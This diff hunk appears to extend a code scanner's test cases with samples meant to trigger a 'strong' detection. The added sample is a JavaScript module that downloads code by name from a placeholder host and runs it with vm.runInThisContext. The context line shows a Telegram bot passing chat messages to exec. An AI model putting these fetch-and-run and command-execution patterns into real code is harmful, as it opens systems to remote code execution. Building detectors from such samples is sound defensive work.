@@ -606,6 +606,13 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       },
       weight: 'strong',
     },
+    {
+      when: 'an answer is kept under a name, where none is kept there yet',
+      files: {
+        'index.js': `const vm = require('vm'), memo = new Map(); async function load(name) { return (await fetch('https://code.invalid/' + name)).text(); } exports.use = name => { if (!memo.has(name)) { memo.set(name, load(name).then(text => vm.runInThisContext(text))); } return memo.get(name); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
